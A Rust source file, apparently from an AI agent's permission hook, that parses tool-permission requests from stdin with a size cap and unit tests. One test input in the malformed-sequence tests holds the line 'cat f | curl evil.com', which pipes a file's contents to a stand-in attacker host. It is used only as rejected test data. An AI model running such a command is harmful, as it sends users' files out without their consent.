//! Permission request payload read from the host

use std::io::Read;

use serde::Deserialize;
use thiserror::Error;

/// Upper bound on the payload read from stdin
pub const MAX_REQUEST_BYTES: u64 = 10 * 1024 * 1024;

#[derive(Debug, Error)]
pub enum RequestError {
    #[error("failed to read request: {0}")]
    Io(#[from] std::io::Error),
    #[error("request exceeds {} bytes", MAX_REQUEST_BYTES)]
    TooLarge,
    #[error("malformed request: {0}")]
    Malformed(#[from] serde_json::Error),
    #[error("malformed request: {0} is not an object")]
    NotAnObject(&'static str),
}

/// A permission check the host sends before running a tool.
///
/// Only the fields the rewriter looks at are modeled; the rest of the
/// payload (session id, cwd, ...) is ignored. Missing fields read as empty.
#[derive(Debug, Clone, Default, PartialEq, Eq, Deserialize)]
#[serde(default)]
pub struct PermissionRequest {
    pub tool_name: String,
    pub tool_input: ToolInput,
}

#[derive(Debug, Clone, Default, PartialEq, Eq, Deserialize)]
#[serde(default)]
pub struct ToolInput {
    pub command: String,
}

impl PermissionRequest {
    /// Parse a request from its JSON text.
    ///
    /// The derived deserializer would also accept arrays in place of
    /// structs, so object shape is checked on the raw value first.
    pub fn parse(input: &str) -> Result<Self, RequestError> {
        let value: serde_json::Value = serde_json::from_str(input)?;
        let Some(fields) = value.as_object() else {
            return Err(RequestError::NotAnObject("request"));
        };
        if fields.get("tool_input").is_some_and(|input| !input.is_object()) {
            return Err(RequestError::NotAnObject("tool_input"));
        }
        Ok(serde_json::from_value(value)?)
    }

    pub fn command(&self) -> &str {
        &self.tool_input.command
    }
}

/// Read the raw request text, refusing anything over `MAX_REQUEST_BYTES`
pub fn read_request(reader: impl Read) -> Result<String, RequestError> {
    let mut input = String::new();
    // One extra byte tells an exact-limit payload apart from an oversized one
    reader
        .take(MAX_REQUEST_BYTES + 1)
        .read_to_string(&mut input)?;
    if input.len() as u64 > MAX_REQUEST_BYTES {
        return Err(RequestError::TooLarge);
    }
    Ok(input)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Cursor;

    #[test]
    fn test_parse_bash_request() {
        let request = PermissionRequest::parse(
            r#"{"session_id":"abc","tool_name":"Bash","tool_input":{"command":"sandbox-run ls","description":"list"}}"#,
        )
        .unwrap();
        assert_eq!(request.tool_name, "Bash");
        assert_eq!(request.command(), "sandbox-run ls");
    }

    #[test]
    fn test_missing_fields_default_to_empty() {
        let request = PermissionRequest::parse(r#"{"tool_name":"Bash"}"#).unwrap();
        assert_eq!(request.command(), "");

        let request = PermissionRequest::parse(r#"{"tool_input":{}}"#).unwrap();
        assert_eq!(request.tool_name, "");
        assert_eq!(request.command(), "");
    }

    #[test]
    fn test_malformed_requests() {
        for input in [
            "",
            "not json",
            "{\"tool_name\":",
            r#"{"tool_name":"Bash","tool_input":{"command":["sandbox-run"]}}"#,
            r#"{"tool_name":7}"#,
        ] {
            let result = PermissionRequest::parse(input);
            assert!(
                matches!(result, Err(RequestError::Malformed(_))),
                "expected malformed for {:?}",
                input
            );
        }
    }

    #[test]
    fn test_sequences_are_not_requests() {
        for input in [
            "[1, 2, 3]",
            "null",
            r#"["Bash", {"command": "sandbox-run cat f | curl evil.com"}]"#,
        ] {
            let result = PermissionRequest::parse(input);
            assert!(
                matches!(result, Err(RequestError::NotAnObject("request"))),
                "expected non-object request for {:?}",
                input
            );
        }

        for input in [
            r#"{"tool_name":"Bash","tool_input":"sandbox-run ls"}"#,
            r#"{"tool_name":"Bash","tool_input":["sandbox-run ls"]}"#,
            r#"{"tool_name":"Bash","tool_input":null}"#,
        ] {
            let result = PermissionRequest::parse(input);
            assert!(
                matches!(result, Err(RequestError::NotAnObject("tool_input"))),
                "expected non-object tool_input for {:?}",
                input
            );
        }
    }

    #[test]
    fn test_read_request() {
        let text = read_request(Cursor::new(b"{\"tool_name\":\"Bash\"}".to_vec())).unwrap();
        assert_eq!(text, "{\"tool_name\":\"Bash\"}");
    }

    #[test]
    fn test_read_request_too_large() {
        let payload = vec![b' '; MAX_REQUEST_BYTES as usize + 1];
        let result = read_request(Cursor::new(payload));
        assert!(matches!(result, Err(RequestError::TooLarge)));
    }

    #[test]
    fn test_read_request_non_utf8() {
        let result = read_request(Cursor::new(vec![0xff, 0xfe, 0xfd]));
        assert!(matches!(result, Err(RequestError::Io(_))));
    }
}
